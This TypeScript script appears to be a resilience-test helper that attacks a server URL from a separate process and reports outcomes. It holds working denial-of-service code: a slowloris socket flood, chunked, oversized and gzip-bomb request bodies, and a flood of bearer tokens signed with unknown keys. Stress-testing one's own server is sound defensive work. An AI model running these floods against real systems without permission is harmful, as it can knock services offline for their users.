/** Attacks from a process of its own, so that whoever looks on is not slowed by it. `node attacker.js <attack> <url> <seconds> <token> [file of tokens]`; prints what became of it. */
import { readFileSync } from 'node:fs';
import { connect, type Socket } from 'node:net';
import { setTimeout as pause } from 'node:timers/promises';
import { gzipSync } from 'node:zlib';
import { Agent } from 'undici';

const [, , attack = '', url = '', seconds = '10', token = '', file = ''] = process.argv;
const { hostname, port, host, origin, pathname } = new URL(url);
const until = performance.now() + Number(seconds) * 1_000;
const isOver = () => performance.now() > until;
const seen: Record<string, number> = {};
const note = (what: string): void => void (seen[what] = (seen[what] ?? 0) + 1);

const SOCKETS = 1_000;
/** Opened, or opened again, in a tenth of a second: it is sockets that stand there that are tested. */
const AT_ONCE = 25;
const BOMBERS = 12;
/** More than any body may be; an endless one ends here, if nobody ends it before. */
const ENDLESS_BYTES = 16 * 1024 * 1024;
const ASKERS = 8;

/** Heads that never end, a byte at a time; a socket that is closed is opened again. */
async function loris(): Promise<void> {
  const open = new Set<Socket>();
  const dial = () => {
    const socket = connect(Number(port), hostname);
    open.add(socket);
    socket.on('connect', () => {
      note('opened');
      socket.write(`POST ${pathname} HTTP/1.1\r\nHost: ${host}\r\nX-Slow: `);
    });
    socket.on('error', () => {});
    socket.on('data', () => {}); // an answer, before it is closed
    socket.on('close', () => {
      open.delete(socket);
      note('closed by the server');
    });
  };
  while (!isOver()) {
    for (let index = 0; open.size < SOCKETS && index < AT_ONCE; index += 1) dial();
    await pause(100);
    for (const socket of open) if (Math.random() < 0.1) socket.write('x');
  }
  note(`open at the end: ${open.size}`);
  for (const socket of open) socket.destroy();
}

const HEAD = `POST ${pathname} HTTP/1.1\r\nHost: ${host}\r\nAuthorization: Bearer ${token}\r\nContent-Type: application/json\r\nAccept: application/json, text/event-stream\r\n`;
const MIB = 1024 * 1024;
const chunk = Buffer.from(`10000\r\n${' '.repeat(65_536)}\r\n`);
const bombs: readonly ((socket: Socket) => Promise<void>)[] = [
  async function endless(socket) {
    socket.write(`${HEAD}Transfer-Encoding: chunked\r\n\r\n`);
    for (let sent = 0; sent < ENDLESS_BYTES && !socket.destroyed; sent += chunk.length) if (!socket.write(chunk)) await pause(5);
  },
  async function oneTooMany(socket) {
    socket.write(`${HEAD}Content-Length: ${MIB + 1}\r\n\r\n`);
    socket.write(' '.repeat(MIB + 1));
  },
  async function zipped(socket) {
    const body = gzipSync(' '.repeat(64 * MIB));
    socket.write(`${HEAD}Content-Encoding: gzip\r\nContent-Length: ${body.length}\r\n\r\n`);
    socket.write(body);
  },
];

async function bombing(): Promise<void> {
  const one = async (first: number) => {
    for (let turn = first; !isOver(); turn += 1) {
      const bomb = bombs[turn % bombs.length];
      const socket = connect(Number(port), hostname);
      const closed = new Promise((resolve) => socket.once('close', resolve));
      socket.on('error', () => {});
      socket.once('data', (bytes: Buffer) => note(`${bomb?.name}: ${bytes.toString('latin1').slice(9, 12)}`));
      await bomb?.(socket);
      await Promise.race([closed, pause(2_000)]);
      socket.destroy();
      await pause(50);
    }
  };
  await Promise.all(Array.from({ length: BOMBERS }, (_, index) => one(index)));
}

/** Tokens whose key nobody knows, one each. */
async function strangers(): Promise<void> {
  const agent = new Agent({ connections: ASKERS });
  const tokens = readFileSync(file, 'utf8').trim().split('\n');
  const perAsker = Number(seconds) * 1_000 * (ASKERS / tokens.length);
  const one = async () => {
    for (let its = tokens.pop(); its !== undefined; its = tokens.pop()) {
      const headers = { authorization: `Bearer ${its}`, 'content-type': 'application/json', accept: 'application/json, text/event-stream' };
      const began = performance.now();
      const { statusCode, body } = await agent.request({ origin, path: pathname, method: 'POST', headers, body: '{}' });
      await body.dump();
      note(String(statusCode));
      await pause(Math.max(0, perAsker - (performance.now() - began)));
    }
  };
  await Promise.all(Array.from({ length: ASKERS }, one));
  await agent.close();
}

const attacks: Readonly<Record<string, () => Promise<void>>> = { loris, bombing, strangers };
await attacks[attack]?.();
process.stdout.write(`${JSON.stringify(seen)}\n`);
process.exit(0);
